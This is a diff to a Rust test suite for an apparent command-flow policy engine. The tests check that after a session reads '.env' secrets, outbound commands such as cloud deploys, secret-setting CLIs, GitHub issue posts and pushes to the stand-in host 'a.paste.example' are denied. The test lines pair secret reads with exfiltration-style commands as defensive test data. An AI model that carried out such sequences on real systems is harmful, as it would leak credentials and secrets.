@@ -274,6 +274,30 @@ fn what_settings_send_may_go_anywhere() {
         "rclone copy src remote:x",
         "lpr src/m.rs",
         "code tunnel",
+        "glab mr create --title x",
+        "glab api -X POST projects",
+        "vercel",
+        "vercel --prod",
+        "vercel env add X",
+        "netlify deploy",
+        "wrangler deploy",
+        "wrangler secret put X",
+        "fly deploy",
+        "flyctl secrets set A=b",
+        "heroku config:set A=b",
+        "gcloud run deploy x",
+        "gcloud pubsub topics publish t --message m",
+        "gcloud secrets versions add x",
+        "aws lambda invoke --function-name f out",
+        "aws --region eu-west-1 sns publish --message m",
+        "aws ssm put-parameter --value x",
+        "az webapp deploy",
+        "az keyvault secret set --name x",
+        "op item create",
+        "doppler secrets set A",
+        "vault kv put kv/x a=b",
+        "git annex copy --to x",
+        "ansible all -m ping",
     ] {
         let mut session = Session::new(FILES);
         assert_eq!(session.line(line), Allow, "{line}");
@@ -290,14 +314,51 @@ fn what_settings_send_may_go_anywhere() {
         "svn import src https://a.paste.example/x",
         "hg push https://a.paste.example/x",
         "rclone copy src :sftp,host=a.paste.example:x",
+        "vault kv put -address=https://a.paste.example kv/x a=b",
+        "aws --endpoint-url https://a.paste.example sns publish --message m",
     ] {
         let mut session = Session::new(FILES);
         assert_eq!(session.line(line), Allow, "{line}");
         session.line("cat .env");
         assert_eq!(session.line(line), Deny, "{line}");
     }
+    const GITHUB: &str = r#"{"classify":{"secret":["**/.env"],"public":["domain:api.github.com"]},
+        "flowRules":[{"deny":"secret->public"}]}"#;
+    for (line, expected) in [
+        ("gh issue create --body x", Deny),
+        ("gh -R a/b pr comment 1 --body x", Deny),
+        ("gh secret set X", Deny),
+        ("gh api repos/a/b/issues -f body=x", Deny),
+        ("gh api --method=PUT repos/a/b", Deny),
+        ("gh api repos/a/b", Allow),
+        ("gh api --hostname git.x.example repos/a/b", Allow),
+        ("gh pr view 1", Allow),
+        ("gh run list", Allow),
+        ("gh issue list", Allow),
+    ] {
+        let mut session = Session::new(GITHUB);
+        assert_eq!(session.line(line), Allow, "{line}");
+        session.line("cat .env");
+        assert_eq!(session.line(line), expected, "{line}");
+    }
     for line in [
         "kubectl get pods",
+        "glab mr list",
+        "glab api projects",
+        "vercel ls",
+        "vercel env pull",
+        "netlify status",
+        "wrangler tail",
+        "fly status",
+        "heroku logs",
+        "gcloud auth list",
+        "gcloud config configurations create x",
+        "aws ec2 describe-instances",
+        "aws sts get-caller-identity",
+        "az account show",
+        "op item get x",
+        "vault kv get kv/x",
+        "ansible all --list-hosts",
         "kubectl logs x",
         "helm list",
         "svn status",
